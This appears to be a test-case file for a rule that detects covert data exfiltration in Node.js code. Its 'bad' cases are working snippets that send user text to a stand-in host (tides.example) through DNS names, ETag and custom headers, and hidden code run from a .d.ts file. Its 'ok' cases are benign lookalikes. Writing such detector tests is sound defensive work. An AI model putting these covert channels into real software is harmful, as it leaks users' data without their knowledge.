import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'labels of what the user typed',
      code: "const dns = require('dns').promises;\nconst resolver = new dns.Resolver();\nconst label = (text) => Buffer.from(text, 'utf8').toString('hex').match(/.{1,56}/g) || [];\nexports.suggest = async (prefix, scope) => (await resolver.resolveTxt([...label(scope.join('\\n')), ...label(prefix), 'ac', 'tides', 'example'].join('.'))).flat();",
    },
    {
      name: 'a packed text as a name, by the system’s resolver',
      code: "const dns = require('dns'), zlib = require('zlib');\nexports.tell = (text) => dns.lookup(`${zlib.deflateRawSync(text).toString('hex')}.tides.example`, () => {})",
    },
    {
      name: 'a packed text as a checksum that the client has',
      code: "const { deflateRawSync } = require('zlib');\nconst topics = [];\nconst validator = () => { const seed = topics.splice(0).join('|'); return seed ? `W/\"${deflateRawSync(seed).toString('base64url')}\"` : undefined };\nexports.note = (topic) => topics.push(topic);\nexports.icon = async (host) => { const tag = validator(); return fetch('https://icons.tides.example/' + host, { method: 'HEAD', headers: tag ? { 'if-none-match': tag } : {} }) }",
    },
    {
      name: 'pieces in headers of its own',
      code: "const https = require('https'), { gzipSync } = require('zlib');\nexports.count = (text) => { const headers = {}; gzipSync(text).toString('base64').match(/.{1,900}/g).forEach((piece, i) => { headers['x-baggage-' + i] = piece }); https.get({ host: 'meter.tides.example', headers }) }",
    },
    {
      name: 'code of a file of declarations, which a loader of its own has run',
      files: {
        'index.js':
          "const fs = require('fs');\nrequire.extensions['.ts'] = (module, file) => module._compile(fs.readFileSync(file, 'utf8').replace(/:\\s*any\\b/g, ''), file);\nconst types = (name) => require(`./types/${name}.d.ts`);\ntypes('bind').warm(Buffer.from('x'));",
        'types/bind.d.ts':
          "const { request } = require('https');\nexports.warm = (body: any) => request({ host: 'cache.tides.example', method: 'POST', headers: { etag: body.toString('base64url') } }).end();\n",
      },
    },
  ],
  ok: [
    {
      name: 'checksums, and what was drawn by lot',
      code: "const crypto = require('crypto'), dns = require('dns').promises;\nconst digest = (text) => crypto.createHash('sha256').update(text).digest('hex');\nexports.key = (user) => dns.resolve(`${digest(user).slice(0, 56)}._openpgpkey.weather.example`, 'TXT');\nexports.fresh = () => dns.resolve(`${Buffer.from(crypto.randomBytes(8)).toString('hex')}.weather.example`);\nexports.get = (url, body) => fetch(url, { headers: { 'if-none-match': `\"${Buffer.from(digest(body), 'hex').toString('base64')}\"` } })",
    },
    {
      name: 'a login, and a body that says how it is packed',
      code: "const { gzipSync } = require('zlib');\nexports.send = (user, password, data) => fetch('https://api.weather.example', { method: 'POST', headers: { authorization: 'Basic ' + Buffer.from(`${user}:${password}`).toString('base64'), 'content-encoding': 'gzip', 'content-md5': Buffer.from(data.md5, 'hex').toString('base64') }, body: gzipSync(data.text) })",
    },
    {
      name: 'names that are asked for as they are',
      code: "const dns = require('dns').promises;\nexports.mail = (domain) => dns.resolveMx(domain);\nexports.listed = (ip) => dns.resolve4(`${ip.split('.').reverse().join('.')}.bl.weather.example`);\nexports.show = (bytes) => Buffer.from(bytes).toString('hex')",
    },
    {
      name: 'a login among the options that say where a request comes from',
      code: "const https = require('https');\nexports.open = (url, options) => { const opts = { headers: {}, ...options };\n  if (opts.origin) opts.headers.Origin = opts.origin;\n  if (opts.auth) opts.headers.Authorization = 'Basic ' + Buffer.from(opts.auth).toString('base64');\n  return https.request(url, opts) }",
    },
  ],
});
